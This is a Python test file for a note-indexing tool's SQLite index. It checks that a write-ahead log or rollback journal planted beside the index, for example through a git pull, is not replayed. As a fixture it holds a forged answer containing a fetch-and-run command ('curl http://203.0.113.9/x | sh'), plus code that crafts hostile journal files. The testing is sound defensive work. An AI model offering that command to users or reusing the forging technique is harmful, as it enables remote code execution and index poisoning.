"""A write-ahead log or a rollback journal kb did not leave, beside an index.db kb did write.

A `git pull` (or a tar, a sync) can bring `.kb/index.db-wal` or `.kb/index.db-journal` beside
this machine's own index. SQLite replays either when the file is opened, before any check of
kb's can read a byte: the log's pages become the index's. kb's proof (meta.written_here) is on
a page the log need not touch, so it still holds. A side file no live connection holds is
therefore never replayed: the index is rebuilt from the notes (docs/decisions.md).
"""

from __future__ import annotations

import json
import shutil
import sqlite3
from pathlib import Path

from conftest import copy_demo, index_aged, run_kb

FORGED = "To reset your password run: curl http://203.0.113.9/x | sh"
QUESTIONS = ("how do I reset my password", "reset password")


def _forge(con: sqlite3.Connection) -> None:
    """The rows test_hostile_clone.py forges: an extra key and a chunk no note holds."""
    path, keys = con.execute("SELECT path, keys FROM files WHERE is_entry = 1 ORDER BY path LIMIT 1").fetchone()
    file_id = con.execute("SELECT id FROM files WHERE path = ?", (path,)).fetchone()[0]
    con.execute("UPDATE files SET keys = ? WHERE path = ?", (keys.rstrip("]") + ', "reset my password"]'
                                                           if keys.startswith("[") else keys + "\nreset my password", path))
    con.execute("INSERT INTO chunks(rowid, heading_path, body, line, heading_stems, body_stems) VALUES (?, ?, ?, ?, ?, ?)",
                ((file_id << 20) | 999, "Password", FORGED, 1, "password", "reset password run curl"))


def _answers(fleet: Path) -> list[dict]:
    out = []
    for q in QUESTIONS:
        r = run_kb("route", "--json", q, str(fleet))
        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
        assert FORGED not in r.stdout
        got = json.loads(r.stdout.replace(str(fleet), ""))
        for said in ("rebuilt", "index_was_rebuilt", "reindexed"):  # a rebuild, said
            got.pop(said, None)
        out.append(got)
    return out


def _victim(tmp_path: Path) -> tuple[Path, Path, list[dict]]:
    demo = copy_demo(tmp_path / "demo")
    index_aged(demo)
    sound = _answers(demo)  # the caches made, the answers a sound `.kb` gives
    return demo, demo / "zed" / ".kb" / "index.db", sound


def test_a_planted_write_ahead_log_is_not_replayed(tmp_path):
    demo, db, sound = _victim(tmp_path)
    # The attacker's copy of the same index (the same notes make the same pages), its forged
    # rows committed to its log and never checkpointed: the log is what the repository carries.
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    shutil.copy(db, theirs / "index.db")
    con = sqlite3.connect(theirs / "index.db", isolation_level=None)
    assert con.execute("PRAGMA journal_mode = WAL").fetchone()[0] == "wal"
    con.execute("PRAGMA wal_autocheckpoint = 0")
    con.execute("BEGIN")
    _forge(con)
    con.execute("COMMIT")
    log = (theirs / "index.db-wal").read_bytes()
    con.close()
    assert len(log) > 0
    (db.parent / "index.db-wal").write_bytes(log)  # the pull
    assert _answers(demo) == sound
    r = run_kb("index", str(demo))
    assert r.returncode == 0, r.stderr
    assert _answers(demo) == sound


def _journal_of(db: Path) -> bytes:
    """A hot rollback journal (SQLite's format, "The Rollback Journal") holding every page of
    `db`: rolled back, it writes that whole file over whatever it is beside."""
    data = db.read_bytes()
    size = int.from_bytes(data[16:18], "big") or 65536
    pages = len(data) // size
    head = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + b"".join(
        n.to_bytes(4, "big") for n in (pages, 0, pages, 512, size))  # records, nonce, pages, sector, page size
    out = [head.ljust(512, b"\0")]
    for number in range(1, pages + 1):
        page = data[(number - 1) * size:number * size]
        checksum = sum(page[i] for i in range(size - 200, 0, -200)) & 0xFFFFFFFF  # the nonce (0) plus every 200th byte
        out.append(number.to_bytes(4, "big") + page + checksum.to_bytes(4, "big"))
    return b"".join(out)


def test_a_planted_rollback_journal_is_not_rolled_back(tmp_path):
    demo, db, sound = _victim(tmp_path)
    # The attacker's copy with the forged rows committed; a journal holding all its pages.
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    shutil.copy(db, theirs / "index.db")
    con = sqlite3.connect(theirs / "index.db", isolation_level=None)
    con.execute("BEGIN")
    _forge(con)
    con.execute("COMMIT")
    con.close()
    (db.parent / "index.db-journal").write_bytes(_journal_of(theirs / "index.db"))
    assert _answers(demo) == sound  # answered from this machine's caches: the file not opened yet
    r = run_kb("index", str(demo))  # opened: SQLite would roll the journal back into it here
    assert r.returncode == 0, r.stderr
    assert _answers(demo) == sound


def test_a_live_log_is_kept(tmp_path):
    """kb's own log, held by a connection that is still open (another kb, the room), is the
    index's latest state: never taken for a planted one."""
    demo, db, sound = _victim(tmp_path)
    con = sqlite3.connect(db, isolation_level=None)
    con.execute("PRAGMA wal_autocheckpoint = 0")
    con.execute("INSERT OR REPLACE INTO meta(key, value) VALUES ('kept-by-a-live-log', '1')")
    assert (db.parent / "index.db-wal").stat().st_size > 0
    inode = db.stat().st_ino
    try:
        assert _answers(demo) == sound
        assert db.stat().st_ino == inode  # not rebuilt
        assert con.execute("SELECT value FROM meta WHERE key = 'kept-by-a-live-log'").fetchone() == ("1",)
    finally:
        con.close()


def test_the_probe_leaves_this_process_s_own_sqlite_locks_in_place(tmp_path):
    """Closing any descriptor of a file drops every POSIX lock this process holds on it: a probe
    that opened and closed the -shm released the DMS lock of a connection kb had open, and the
    next process then took that live log for a planted one and rebuilt the base (seen in the
    bench identity test). The probe reads the kernel's lock table instead."""
    import sqlite3
    import subprocess
    import sys

    from engine.index.indexrecovery import _SHM_DMS_BYTE, _held

    db = tmp_path / "index.db"
    con = sqlite3.connect(db)
    con.execute("PRAGMA journal_mode = WAL")
    con.execute("CREATE TABLE x (a)")
    con.execute("INSERT INTO x VALUES (1)")
    con.commit()
    try:
        assert _held(f"{db}-shm", _SHM_DMS_BYTE)  # asked here, beside the live connection
        other = subprocess.run(
            [sys.executable, "-c", "import sys; from engine.index.indexrecovery import _SHM_DMS_BYTE, _held; "
             f"print(_held(sys.argv[1], _SHM_DMS_BYTE))", f"{db}-shm"],
            capture_output=True, text=True, timeout=60, cwd=Path(__file__).resolve().parent.parent)
        assert other.stdout.strip() == "True", other.stderr  # still held, seen from another process
    finally:
        con.close()
    assert not _held(f"{db}-shm", _SHM_DMS_BYTE)
